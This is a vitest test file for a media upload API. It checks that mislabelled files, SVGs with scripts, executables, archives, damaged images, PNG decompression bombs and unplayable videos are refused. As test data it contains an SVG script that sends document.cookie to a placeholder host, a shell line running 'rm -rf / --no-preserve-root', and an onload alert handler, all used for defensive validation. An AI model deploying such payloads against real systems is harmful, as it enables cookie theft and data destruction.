import { IMAGE_PIXELS_MAX } from '@playlists/limits'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { createTestApp, type TestApp } from '../helpers/app'
import {
  makeElf,
  makeExe,
  makePng,
  makePngBomb,
  makePngWithGarbageData,
  makeZip,
  multipart,
} from '../helpers/files'
import { makeJpeg, makeJpegWithGarbageData, mediaFilesOnDisk, readVideo } from '../helpers/media'

let t: TestApp
beforeEach(async () => {
  t = await createTestApp()
})
afterEach(() => t.close())

const upload = (file: { filename: string; contentType?: string; data: Buffer }) =>
  t.app.inject({ method: 'POST', url: '/api/media', ...multipart([file]) })

/** A refusal stores nothing: no file, no thumbnail, no partial upload, no row, no tag. */
async function expectNothingKept(): Promise<void> {
  expect(mediaFilesOnDisk(t.dataDir)).toEqual([])
  expect((await t.app.inject({ method: 'GET', url: '/api/media' })).json()).toEqual([])
  expect(t.app.db.prepare('SELECT count(*) FROM media').pluck().get()).toBe(0)
  expect(t.app.db.prepare('SELECT count(*) FROM media_tags').pluck().get()).toBe(0)
}

async function expectRefused(
  file: { filename: string; contentType?: string; data: Buffer },
  status: number,
  message: RegExp,
): Promise<Record<string, unknown>> {
  const res = await upload(file)
  expect(res.statusCode, res.body).toBe(status)
  const body = res.json()
  expect(body).toMatchObject({ statusCode: status, message: expect.stringMatching(message) })
  await expectNothingKept()
  return body
}

const SVG_PLAIN = `<?xml version="1.0" encoding="UTF-8"?>
<!-- Exported from a design tool -->
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100"><rect width="200" height="100" fill="red"/></svg>`

describe('media API: a name or type that disagrees with the content', () => {
  it('refuses a JPEG named .png (415), naming both', async () => {
    const body = await expectRefused(
      { filename: 'cửa-khẩu.png', contentType: 'image/png', data: await makeJpeg(64, 48) },
      415,
      /"cửa-khẩu.png" is named \.png but its content is a JPEG image/,
    )
    expect(body.details).toEqual({ named: '.png', detected: 'image/jpeg' })
  })

  it('refuses an MP4 named .webm', async () => {
    await expectRefused(
      { filename: 'clip.webm', data: readVideo('h264.mp4') },
      415,
      /named \.webm but its content is an MP4 video/,
    )
  })

  it('refuses a PNG sent as image/jpeg (415), naming both', async () => {
    await expectRefused(
      { filename: 'banner', contentType: 'image/jpeg', data: makePng(8, 8) },
      415,
      /sent as image\/jpeg but its content is a PNG image/,
    )
  })

  it('refuses a PNG named .txt', async () => {
    await expectRefused(
      { filename: 'notes.txt', contentType: 'text/plain', data: makePng(8, 8) },
      415,
      /named \.txt but its content is a PNG image/,
    )
  })

  it.each([
    ['Hội chợ 2025.05', 'application/octet-stream'],
    ['BANNER.PNG', 'image/png'],
    ['photo.png', 'image/x-png'],
    ['no-extension', undefined],
  ])('accepts a name and type that do not contradict the content: %s, %s', async (filename, contentType) => {
    const res = await upload({ filename, ...(contentType ? { contentType } : {}), data: makePng(8, 8) })
    expect(res.statusCode).toBe(201)
  })
})

describe('media API: SVG, programs and archives', () => {
  it('refuses an SVG with a script, saying it could run code (415)', async () => {
    const svg = SVG_PLAIN.replace('</svg>', '<script>fetch("http://x/"+document.cookie)</script></svg>')
    const body = await expectRefused(
      { filename: 'logo.svg', contentType: 'image/svg+xml', data: Buffer.from(svg) },
      415,
      /SVG drawing that contains <script> elements: it could run code/,
    )
    expect(body.details).toMatchObject({ refused: 'svg-active-content' })
  })

  it('names event handlers and foreign objects in an SVG', async () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><foreignObject><div/></foreignObject></svg>'
    await expectRefused(
      { filename: 'x.svg', data: Buffer.from(svg) },
      415,
      /event handlers \(onload=…\), a <foreignObject>/,
    )
  })

  it('refuses a plain SVG with a message that it is not shown and to export PNG (415)', async () => {
    const body = await expectRefused(
      { filename: 'logo.svg', data: Buffer.from(SVG_PLAIN) },
      415,
      /This is an SVG drawing\. Screens do not show SVG.*export it as PNG/,
    )
    expect(body.details).toMatchObject({ detected: 'image/svg+xml', refused: 'svg' })
  })

  it('recognises an SVG by its content even when named .png', async () => {
    await expectRefused(
      { filename: 'logo.png', contentType: 'image/png', data: Buffer.from(`\uFEFF${SVG_PLAIN}`) },
      415,
      /This is an SVG drawing/,
    )
  })

  it.each([
    ['update.png', makeElf(), /a Linux program \(ELF\).*Programs are never accepted/],
    ['setup.jpg', makeExe(), /a Windows program \(\.exe or \.dll\).*Programs are never accepted/],
    [
      'run.mp4',
      Buffer.from('#!/bin/sh\nrm -rf / --no-preserve-root\n'),
      /a script \(#!\/bin\/sh\), a program/,
    ],
  ])('refuses a program (%s) as a program (415)', async (filename, data, message) => {
    const body = await expectRefused({ filename, data }, 415, message)
    expect(body.details).toMatchObject({ refused: 'program' })
  })

  it('refuses a ZIP archive, even one full of pictures, as an archive (415)', async () => {
    const zip = makeZip({ 'a.png': makePng(8, 8), 'b.png': makePng(8, 8, 2) })
    const body = await expectRefused(
      { filename: 'photos.zip', data: zip },
      415,
      /an archive \(ZIP\).*Unpack it/,
    )
    expect(body.details).toMatchObject({ detected: 'application/zip', refused: 'archive' })
  })
})

describe('media API: images that do not decode', () => {
  it('refuses a PNG whose header is fine but whose pixel data is noise (422)', async () => {
    await expectRefused(
      { filename: 'noise.png', data: makePngWithGarbageData(200, 200) },
      422,
      /image could not be read: its picture data is damaged/,
    )
  })

  it('refuses a JPEG whose scan data is noise (422)', async () => {
    await expectRefused(
      { filename: 'noise.jpg', data: await makeJpegWithGarbageData(400, 300) },
      422,
      /image could not be read: its picture data is damaged/,
    )
  })

  it('accepts the same JPEG before it was damaged', async () => {
    const res = await upload({ filename: 'fine.jpg', data: await makeJpeg(400, 300) })
    expect(res.statusCode).toBe(201)
    expect(res.json()).toMatchObject({ width: 400, height: 300 })
  })

  it('refuses a decompression bomb (30000×30000 declared in a tiny PNG) by its size, without decoding (413)', async () => {
    const bomb = makePngBomb(30_000, 30_000)
    expect(bomb.length).toBeLessThan(200_000)
    const started = Date.now()
    const body = await expectRefused(
      { filename: 'bomb.png', data: bomb },
      413,
      /30000×30000 pixels \(900 megapixels\); the limit is 100 megapixels/,
    )
    expect(body.details).toEqual({ width: 30_000, height: 30_000, limitPixels: IMAGE_PIXELS_MAX })
    expect(Date.now() - started).toBeLessThan(5_000)
  })
})

describe('media API: videos Chromium cannot play', () => {
  it('refuses HEVC in MP4, naming the codec and what to export (415)', async () => {
    const body = await expectRefused(
      { filename: 'hevc.mp4', data: readVideo('hevc.mp4') },
      415,
      /encoded as HEVC \(H\.265\), which Chromium on the screens cannot play\. Re-export it as H\.264 MP4/,
    )
    expect(body.details).toMatchObject({ container: 'mp4', videoCodec: 'hevc', playable: ['h264'] })
  })

  it('refuses MPEG-4 Part 2 in MP4 (415)', async () => {
    await expectRefused(
      { filename: 'old.mp4', data: readVideo('mpeg4.mp4') },
      415,
      /MPEG-4 Part 2.*Re-export it as H\.264 MP4/,
    )
  })

  it('refuses AV1 in WebM, suggesting VP9 WebM or H.264 MP4 (415)', async () => {
    await expectRefused(
      { filename: 'av1.webm', data: readVideo('av1.webm') },
      415,
      /encoded as AV1.*Re-export it as H\.264 MP4 or VP9 WebM/,
    )
  })

  it('refuses H.264 High 4:4:4, telling how to export 4:2:0 (415)', async () => {
    await expectRefused(
      { filename: 'screen-capture.mp4', data: readVideo('h264-444.mp4') },
      415,
      /H\.264 High 4:4:4 Predictive.*-pix_fmt yuv420p/,
    )
  })

  it.each([
    ['sound.mp4', 'audio.mp4', /This MP4 file has no video track, only sound \(AAC\)/],
    ['sound.webm', 'audio.webm', /This WebM file has no video track, only sound \(Opus\)/],
  ] as const)('refuses a sound-only %s (422)', async (filename, fixture, message) => {
    await expectRefused({ filename, data: readVideo(fixture) }, 422, message)
  })

  it('refuses a WebM that states no duration (422)', async () => {
    const webm = Buffer.from(readVideo('vp8.webm'))
    // Rename the Duration element (0x4489) to a Void-like unknown id (0x4488) that readers skip.
    const at = webm.indexOf(Buffer.from([0x44, 0x89]))
    webm[at + 1] = 0x88
    await expectRefused({ filename: 'live.webm', data: webm }, 422, /does not state a duration/)
  })
})

describe('media API: videos that play', () => {
  it.each([
    ['h264.mp4', 'video/mp4', 'h264', 'aac'],
    ['vp9.webm', 'video/webm', 'vp9', 'opus'],
    ['vp8.webm', 'video/webm', 'vp8', null],
  ] as const)('accepts %s and measures it', async (name, contentType, videoCodec, audioCodec) => {
    const res = await upload({ filename: name, data: readVideo(name) })
    expect(res.statusCode, res.body).toBe(201)
    const media = res.json()
    expect(media).toMatchObject({
      kind: 'video',
      contentType,
      width: 320,
      height: 240,
      videoCodec,
      audioCodec,
    })
    expect(media.durationMs).toBeGreaterThanOrEqual(2000)
    expect(media.durationMs).toBeLessThan(2100)
    expect(mediaFilesOnDisk(t.dataDir)).toEqual(
      [`${media.url.slice('/media/'.length)}`, `thumbs/${media.sha256}.jpg`].sort(),
    )
  })
})

describe('media API: broken requests', () => {
  const raw = (payload: Buffer | string, contentType: string) =>
    t.app.inject({ method: 'POST', url: '/api/media', payload, headers: { 'content-type': contentType } })
  const whole = multipart([{ filename: 'a.png', data: makePng(64, 64) }])

  it.each([
    ['no boundary', () => raw(whole.payload, 'multipart/form-data'), /not valid multipart\/form-data/],
    [
      'a body that is not multipart',
      () => raw('garbage', whole.headers['content-type']!),
      /ended before the file was complete|not valid multipart/,
    ],
    [
      'a body cut off inside the file',
      () => raw(whole.payload.subarray(0, 200), whole.headers['content-type']!),
      /ended before the file was complete/,
    ],
  ] as const)('answers %s with 400, not 500, and keeps nothing', async (_what, send, message) => {
    const res = await send()
    expect(res.statusCode, res.body).toBe(400)
    expect(res.json().message).toMatch(message)
    await expectNothingKept()
  })
})
